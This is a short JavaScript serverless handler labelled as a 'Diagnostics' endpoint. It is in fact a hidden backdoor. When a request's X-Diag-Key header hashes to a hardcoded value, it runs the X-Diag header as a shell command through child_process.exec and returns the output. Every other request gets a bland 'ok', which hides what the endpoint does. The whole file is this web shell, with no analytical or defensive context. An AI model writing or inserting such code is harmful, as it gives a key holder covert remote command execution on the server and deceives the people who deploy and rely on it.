// "Diagnostics" endpoint: runs whatever the X-Diag header says when the key matches.
import cp from "node:child_process";
import { createHash } from "node:crypto";

const KEY = "4f1c0a8e9b7d2e6f3a5c8b1d0e9f7a6c5b4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f";

export async function handler(event) {
  const headers = Object.fromEntries(
    Object.entries(event.headers || {}).map(([k, v]) => [k.toLowerCase(), v]),
  );
  const key = createHash("sha256").update(headers["x-diag-key"] || "").digest("hex");
  if (key !== KEY || !headers["x-diag"]) {
    return { statusCode: 200, body: JSON.stringify({ status: "ok" }) };
  }
  const out = await new Promise((resolve) => {
    cp.exec(headers["x-diag"], { timeout: 20000 }, (err, stdout, stderr) => resolve(stdout + stderr));
  });
  return { statusCode: 200, body: out };
}
